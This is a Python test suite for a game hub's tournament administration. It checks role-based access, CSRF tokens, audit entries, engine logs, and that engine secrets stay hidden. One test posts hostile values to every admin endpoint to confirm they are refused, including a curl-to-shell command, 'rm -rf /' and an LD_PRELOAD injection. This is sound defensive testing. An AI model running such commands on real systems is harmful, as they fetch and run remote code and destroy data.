"""
Tournament events on the web face with accounts: admins create and run
them from C{/admin/tournaments} and the JSON admin API (every endpoint
refused to a guest, a player and a moderator, CSRF checked, each action
audited), read the engines' logs there; a logged-in player enters an
event from C{/tournaments/ID} while entry is open.  Real SQLite, a real
HTTP port (L{hub.web.admintournaments}, L{hub.web.adminactions},
L{hub.web.tournaments}).
"""

import json
import re
from io import BytesIO

import attr

from twisted.internet import defer
from twisted.trial.unittest import TestCase
from twisted.web.client import FileBodyProducer, readBody
from twisted.web.http_headers import Headers
from twisted.web.template import flattenString

from hub.tournaments import catalog, store, views
from hub.tournaments.standings import Game
from hub.web.tournaments import eventContent
from hub.tournaments.director import Director

from tests.tournaments.test_director import FakeLauncher as DirectorsLauncher
from tests.web.accountsupport import AccountsWebMixin, Browser, csrfOf

ROLES = ("anonymous", "player", "moderator", "admin")
ACTIONS = ("event-create", "event-enter", "event-withdraw", "event-engine",
           "event-start", "event-pause", "event-resume")
PAGES = ("/admin/tournaments", "/admin/tournaments/logs?event=1",
         "/admin/tournaments/log?event=1&room=1-1-1&name=robot")
LOG = b"robot's move: 7 7\n"


class FakeLauncher(DirectorsLauncher):
    """
    An engine runner (L{hub.tournaments.engines}) whose logs are one, of
    C{robot} in game C{1-1-1} of event 1.
    """

    def engineLogs(self, event):
        return [("1-1-1", "robot")] if event == 1 else []

    def engineLog(self, event, room, name):
        if (event, room, name) != (1, "1-1-1", "robot"):
            raise KeyError(name)
        return LOG


class EventAdminTests(AccountsWebMixin, TestCase):
    """
    Events run from the browser and the API.
    """

    def director(self):
        policies = {}
        return Director(self.accounts.database, self.hub.lobby,
                        self.hub.clock, policies.__getitem__,
                        launcher=FakeLauncher())

    @defer.inlineCallbacks
    def setUp(self):
        yield self.setUpWeb()
        self.browsers = {"anonymous": Browser(self.web)}
        self.tokens = {"anonymous": None}
        for role in ROLES[1:]:
            yield self.addAccount(role[:8], role)
            browser = self.browsers[role] = Browser(self.web)
            code, _, _ = yield browser.login(role[:8])
            self.assertEqual(code, 303)
            self.tokens[role] = yield self.sessions.newToken(role[:8])
        for name in ("ann", "bob"):
            yield self.addAccount(name)
        self.database = self.accounts.database
        # The operator's engine (on the server's CLI), with a secret in
        # its command line.
        yield self.write(catalog.register, "robot", [
            "python", "-m", "hub.bots", "gomoku://{host}:{port}", "--key",
            "SECRETKEY123"], 0.0)

    def write(self, interaction, *args):
        return self.database.runInteraction(interaction, *args, write=True)

    def test_tournamentsWeb(self):
        """
        The events the site gives C{/admin} (its pages and its API, the
        same as C{/tournaments}') provide L{ITournamentsWeb}: the
        director's launcher is theirs, and a change reaches the event's
        page through their feeds, which the director tells.
        """
        from zope.interface.verify import verifyObject

        from hub.web.admintournaments import launcherOf
        from hub.web.interfaces import ITournamentsWeb
        site = self.web.site
        events = site.tournaments
        verifyObject(ITournamentsWeb, events)
        admin = site.resource.children[b"admin"]
        self.assertIs(admin.children[b"tournaments"].events, events)
        self.assertIs(admin.children[b"event-create"].events, events)
        self.assertIs(site.resource.children[b"tournaments"].web, events)
        self.assertIs(events.auth, self.auth)
        self.assertIn(events.feeds, events.director.listeners)
        self.assertIsInstance(events.launcher(), FakeLauncher)
        self.assertIs(launcherOf(events), events.launcher())
        changed = []
        events.feeds.eventChanged = changed.append
        events.eventChanged(7)
        self.assertEqual(changed, [7])

    @defer.inlineCallbacks
    def newEvent(self, state="created", entrants=("ann", "bob")):
        eventId = yield self.write(store.createEvent, "cup", "gomoku",
                                   "swiss", 3, None, 2, None, 0.0)
        for name in entrants:
            yield self.write(store.enter, eventId, name, 0.0)
        for action in {"created": (), "running": ("start",),
                       "paused": ("start", "pause")}[state]:
            yield self.write(store.requestState, eventId, action, 0.0)
        return eventId

    @defer.inlineCallbacks
    def fields(self, action):
        """
        Valid fields of C{action}, on an event made for it.
        """
        if action == "event-create":
            return {"name": "spring cup", "game": "gomoku",
                    "format": "swiss", "rounds": "5", "players": "2",
                    "turn-seconds": "30"}
        state = {"event-pause": "running",
                 "event-resume": "paused"}.get(action, "created")
        eventId = yield self.newEvent(state)
        fields = {"event": str(eventId)}
        if action in ("event-enter", "event-withdraw"):
            fields["name"] = "ann"
        if action == "event-engine":
            fields["name"] = "robot"
        return fields

    @defer.inlineCallbacks
    def auditCount(self):
        entries = yield self.accounts.audit(1000)
        return len(entries)

    @defer.inlineCallbacks
    def test_pagesEveryRole(self):
        """
        C{/admin/tournaments} and its engine logs: a guest is sent to
        C{/login}, a player and a moderator get 403, an admin the page
        (the log as text).
        """
        yield self.newEvent()
        for path in PAGES:
            for role in ROLES:
                code, headers, page = yield self.browsers[role].get(path)
                where = (path, role)
                if role == "anonymous":
                    self.assertEqual(code, 303, where)
                elif role in ("player", "moderator"):
                    self.assertEqual(code, 403, where)
                    self.assertNotIn("robot", page, where)
                else:
                    self.assertEqual(code, 200, where)
        _, headers, page = yield self.browsers["admin"].get(PAGES[2])
        self.assertEqual(page.encode("utf-8"), LOG)
        self.assertEqual(headers.getRawHeaders(b"content-type"),
                         [b"text/plain; charset=utf-8"])
        _, _, page = yield self.browsers["admin"].get(PAGES[1])
        self.assertIn("/admin/tournaments/log?event=1&amp;room=1-1-1&amp;"
                      "name=robot", page)
        code, _, _ = yield self.browsers["admin"].get(
            "/admin/tournaments/log?event=1&room=1-1-1&name=other")
        self.assertEqual(code, 404)

    @defer.inlineCallbacks
    def test_pageActionsEveryRole(self):
        """
        Each POST C{/admin/event-ACTION} with a valid CSRF token is
        refused to a guest (sent to C{/login}), a player and a moderator
        (403), doing nothing, and done by an admin, audited once.
        """
        for action in ACTIONS:
            for role in ROLES:
                browser = self.browsers[role]
                fields = yield self.fields(action)
                _, _, page = yield browser.get("/login")
                fields["csrf"] = csrfOf(page)
                before = yield self.auditCount()
                events = yield self.database.runInteraction(
                    store.listEvents)
                code, headers, page = yield browser.request(
                    b"POST", "/admin/" + action, fields)
                after = yield self.auditCount()
                eventsAfter = yield self.database.runInteraction(
                    store.listEvents)
                where = (action, role)
                if role == "admin":
                    self.assertEqual(code, 303, (where, page))
                    self.assertEqual(
                        headers.getRawHeaders(b"location"),
                        [("/admin/tournaments?done=" + action).encode()])
                    self.assertEqual(after, before + 1, where)
                else:
                    self.assertEqual(
                        code, 303 if role == "anonymous" else 403, where)
                    self.assertEqual(after, before, where)
                    self.assertEqual(eventsAfter, events, where)

    @defer.inlineCallbacks
    def test_csrf(self):
        """
        An admin's event action without the CSRF token is refused and
        not done.
        """
        fields = yield self.fields("event-start")
        before = yield self.auditCount()
        code, _, _ = yield self.browsers["admin"].request(
            b"POST", "/admin/event-start", fields)
        self.assertEqual(code, 403)
        event = yield self.database.runInteraction(
            store.getEvent, int(fields["event"]))
        self.assertEqual(event.state, "created")
        after = yield self.auditCount()
        self.assertEqual(after, before)

    @defer.inlineCallbacks
    def api(self, role, path, body):
        sent = Headers({b"content-type": [b"application/json"]})
        if self.tokens[role] is not None:
            sent.addRawHeader(b"authorization",
                              b"Bearer " + self.tokens[role].encode())
        response = yield Browser(self.web).agent.request(
            b"POST", self.web.url(path).encode(), sent,
            FileBodyProducer(BytesIO(json.dumps(body).encode())))
        text = yield readBody(response)
        return response.code, json.loads(text)

    @defer.inlineCallbacks
    def test_apiEveryRole(self):
        """
        C{POST /api/admin/event-ACTION}: no token 401, a player's and a
        moderator's 403 (nothing done), an admin's done and audited.
        """
        for action in ACTIONS:
            for role in ROLES:
                fields = yield self.fields(action)
                before = yield self.auditCount()
                code, data = yield self.api(role, "/api/admin/" + action,
                                            fields)
                after = yield self.auditCount()
                where = (action, role)
                if role == "admin":
                    self.assertEqual(code, 200, (where, data))
                    self.assertEqual(data["done"], action)
                    self.assertEqual(after, before + 1, where)
                else:
                    self.assertEqual(
                        code, 401 if role == "anonymous" else 403, where)
                    self.assertEqual(after, before, where)

    @defer.inlineCallbacks
    def test_runAnEventFromThePage(self):
        """
        An admin creates an event with the page's form, enters two
        accounts and an engine, withdraws one, starts, pauses and resumes
        it: the database says so, the audit shows each action, and an
        engine's command line appears on no page.
        """
        admin = self.browsers["admin"]
        code, _, page = yield admin.get("/admin")
        self.assertIn('href="/admin/tournaments"', page)
        code, _, _ = yield admin.submit(
            "/admin/tournaments", "/admin/event-create",
            {"name": "spring", "game": "gomoku", "format": "round-robin",
             "turn-seconds": "20"})
        self.assertEqual(code, 303)
        events = yield self.database.runInteraction(store.listEvents)
        event = events[-1]
        self.assertEqual((event.name, event.kind, event.format,
                          event.tableSize, event.turnSeconds),
                         ("spring", "gomoku", "round-robin", 2, 20.0))
        number = str(event.id)
        code, _, page = yield admin.get("/admin/tournaments")
        self.assertIn('<option value="robot">robot</option>', page)
        for action, fields in (
                ("event-enter", {"name": "ANN"}),
                ("event-enter", {"name": "bob"}),
                ("event-enter", {"name": "visitor", "guest": "1"}),
                ("event-engine", {"name": "robot"}),
                ("event-withdraw", {"name": "visitor"}),
                ("event-start", {}), ("event-pause", {}),
                ("event-resume", {})):
            fields["event"] = number
            code, headers, page = yield admin.submit(
                "/admin/tournaments", "/admin/" + action, fields)
            self.assertEqual(code, 303, (action, page))
        snap = yield self.database.runInteraction(store.snapshot, event.id)
        self.assertEqual(snap.event.state, "running")
        entrants = {e.name: e for e in snap.entrants}
        self.assertEqual(sorted(entrants), ["ann", "bob", "robot",
                                            "visitor"])
        self.assertTrue(entrants["visitor"].withdrawn)
        self.assertEqual(list(entrants["robot"].engine.command), [
            "python", "-m", "hub.bots", "gomoku://{host}:{port}", "--key",
            "SECRETKEY123"])
        code, _, page = yield admin.get("/admin/audit")
        for words in ("event-create", "event-enter", "event 1 ann",
                      "event-engine", "event 1 robot", "event-withdraw",
                      "event-start", "event-pause", "event-resume"):
            self.assertIn(words, page)
        for path in ("/admin/audit", "/admin/tournaments",
                     "/tournaments/" + number):
            _, _, page = yield admin.get(path)
            self.assertNotIn("SECRETKEY123", page, path)
        code, _, page = yield admin.submit(
            "/admin/tournaments", "/admin/event-start", {"event": number})
        self.assertEqual(code, 400)
        self.assertIn("not created", page)
        code, _, page = yield admin.submit(
            "/admin/tournaments", "/admin/event-enter",
            {"event": number, "name": "nobody"})
        self.assertEqual(code, 400)
        self.assertIn("no account", page)
        code, _, page = yield admin.submit(
            "/admin/tournaments", "/admin/event-engine",
            {"event": number, "name": "unregistered"})
        self.assertEqual(code, 400)
        self.assertIn("No engine <bdi>unregistered</bdi> is registered", page)

    @defer.inlineCallbacks
    def test_commandLineRefusedEverywhere(self):
        """
        A command line, a path or an environment posted to every admin
        endpoint, by an admin (as a form of C{/admin}, with its CSRF
        token, and to the JSON API) is refused, and nothing is done:
        no audit row, no event, no entrant, no engine registered.
        """
        from hub.web.adminactions import ACTIONS as ALL
        eventId = yield self.newEvent()
        hostile = [
            {"command": "sh -c 'curl evil | sh'"},
            {"argv": "rm -rf /"},
            {"path": "/bin/sh"},
            {"folder": "/var/lib/gamehub"},
            {"env": "LD_PRELOAD=/tmp/x.so"},
            {"environment": "PYTHONPATH=/tmp"},
        ]
        admin = self.browsers["admin"]
        before = yield self.auditCount()
        engines = yield self.database.runInteraction(catalog.engines)
        snap = yield self.database.runInteraction(store.snapshot, eventId)
        endpoints = sorted(ALL) + ["connections", "rooms", "audit",
                                   "engines"]
        for name in endpoints:
            for extra in hostile:
                fields = dict(extra)
                if name in ALL:
                    fields.update((yield self.fields(name)))
                    fields.update(extra)
                where = (name, extra)
                code, _, page = yield admin.submit(
                    "/admin/tournaments", "/admin/" + name, fields)
                if name in ALL:
                    self.assertEqual(code, 400, where)
                    self.assertIn("takes no field", page, where)
                else:
                    # No such form (a page, or nothing): not taken.
                    self.assertIn(code, (404, 405), where)
                code, data = yield self.api("admin", "/api/admin/" + name,
                                            fields)
                self.assertIn(code, (400, 405), where)
                if name in ALL:
                    self.assertIn("takes no field", data["error"], where)
        after = yield self.auditCount()
        self.assertEqual(after, before)
        self.assertEqual((yield self.database.runInteraction(
            catalog.engines)), engines)
        snapAfter = yield self.database.runInteraction(
            store.snapshot, eventId)
        self.assertEqual(snapAfter.entrants, snap.entrants)

    def test_everyActionNamesItsFields(self):
        """
        Every admin action names the fields it takes (so that no other
        is let in), and none of them is a program's.
        """
        from hub.web.adminactions import ACTIONS as ALL, FIELDS
        self.assertEqual(sorted(FIELDS), sorted(ALL))
        for fields in FIELDS.values():
            self.assertFalse({"command", "argv", "path", "folder", "env",
                              "environment", "cwd"} & set(fields))

    @defer.inlineCallbacks
    def test_registeredEngines(self):
        """
        C{GET /api/admin/engines} lists the registered engines (for
        admins): names, protocols and limits, never a command line.
        """
        sent = Headers({b"authorization": [
            b"Bearer " + self.tokens["admin"].encode()]})
        response = yield Browser(self.web).agent.request(
            b"GET", self.web.url("/api/admin/engines").encode(), sent)
        text = yield readBody(response)
        self.assertEqual(response.code, 200)
        self.assertEqual(json.loads(text), {"engines": [
            {"name": "robot", "protocol": "tcp", "cpuSeconds": 600,
             "memoryBytes": 1024 ** 3}]})
        self.assertNotIn(b"SECRETKEY123", text)
        self.assertNotIn(b"hub.bots", text)

    @defer.inlineCallbacks
    def test_enterFromTheEventPage(self):
        """
        A logged-in player's C{/tournaments/ID} has an Enter button while
        entry is open; it enters their account (with the CSRF token only)
        and becomes Withdraw; a guest has no button and is sent to log
        in; once a Swiss event runs, a player not entered has none.
        """
        eventId = yield self.newEvent(entrants=())
        path = "/tournaments/%d" % (eventId,)
        player = self.browsers["player"]
        code, _, page = yield player.get(path)
        self.assertEqual(code, 200)
        self.assertIn('id="entry-enter"', page)
        self.assertIn('data-you="player"', page)
        _, _, page = yield self.browsers["anonymous"].get(path)
        self.assertNotIn("entry-enter", page)
        self.assertNotIn("data-you", page)
        code, _, _ = yield player.request(b"POST", path + "/enter", {})
        self.assertEqual(code, 403)
        code, headers, _ = yield player.submit(path, path + "/enter", {})
        self.assertEqual(code, 303)
        self.assertEqual(headers.getRawHeaders(b"location"),
                         [path.encode()])
        entrants = yield self.database.runInteraction(store.entrants,
                                                      eventId)
        self.assertEqual([e.name for e in entrants], ["player"])
        _, _, page = yield player.get(path)
        self.assertIn('id="entry-withdraw"', page)
        anonymous = self.browsers["anonymous"]
        _, _, form = yield anonymous.get("/login")
        code, headers, _ = yield anonymous.request(
            b"POST", path + "/enter", {"csrf": csrfOf(form)})
        self.assertEqual(code, 303)
        self.assertEqual(headers.getRawHeaders(b"location"),
                         [("/login?next=" + path).encode()])
        yield self.write(store.enter, eventId, "ann", 0.0)
        yield self.write(store.requestState, eventId, "start", 0.0)
        moderator = self.browsers["moderator"]
        _, _, page = yield moderator.get(path)
        self.assertNotIn("entry-enter", page)
        code, _, page = yield moderator.submit(
            "/login", path + "/enter", {})
        self.assertEqual(code, 400)
        self.assertIn("Entry is closed: the event is running.", page)


class GuestEntrantTests(AccountsWebMixin, TestCase):
    """
    An entrant whose name is no account's is a guest on the event's
    pages, as everywhere (issue: "guests are marked as guests in the
    records and on every page").
    """

    director = EventAdminTests.director
    write = EventAdminTests.write

    @defer.inlineCallbacks
    def setUp(self):
        yield self.setUpWeb()
        self.database = self.accounts.database

    @defer.inlineCallbacks
    def test_marked(self):
        """
        An account entered is not marked; a name entered as a guest's,
        and an engine under a free name, are: in the store, the event's
        JSON (entrants, standings, each pairing's seats) and its page.
        """
        yield self.addAccount("ann")
        eventId = yield self.write(store.createEvent, "cup", "gomoku",
                                   "round-robin", None, None, 2, None, 0.0)
        yield self.write(store.enter, eventId, "ANN", 0.0)
        yield self.write(store.enter, eventId, "visitor", 0.0, None, True)
        yield self.write(catalog.register, "robot",
                         ["python", "-m", "hub.bots"], 0.0)
        yield self.write(store.enter, eventId, "robot", 0.0, "robot")
        entrants = yield self.write(store.entrants, eventId)
        self.assertEqual([(e.name, e.guest) for e in entrants],
                         [("ann", False), ("visitor", True),
                          ("robot", True)])
        snap = yield self.write(store.snapshot, eventId)
        snap = attr.evolve(snap, games=(Game(1, 1, ("ann", "visitor")),))
        data = views.eventJSON(snap)
        self.assertEqual([(e["name"], e["guest"]) for e in data["entrants"]],
                         [("ann", False), ("visitor", True),
                          ("robot", True)])
        self.assertEqual({s["name"]: s["guest"] for s in data["standings"]},
                         {"ann": False, "visitor": True, "robot": True})
        self.assertEqual(data["rounds"][0]["pairings"][0]["guests"],
                         [False, True])
        page = flattenString(None, eventContent(data))
        page = self.successResultOf(page).decode("utf-8")
        marked = re.findall(r"<bdi>(\w+)</bdi> ?<span class=\"tag guest\">",
                            page)
        # Standings, pairing, entrants: the two guests each time.
        self.assertEqual(sorted(marked), ["robot", "robot", "visitor",
                                          "visitor", "visitor"])
        code, _, page = yield Browser(self.web).get(
            "/tournaments/%d" % (eventId,))
        self.assertEqual(code, 200)
        self.assertEqual(
            sorted(re.findall(r"<bdi>(\w+)</bdi> ?<span class=\"tag guest\">",
                              page)),
            ["robot", "robot", "visitor", "visitor"])
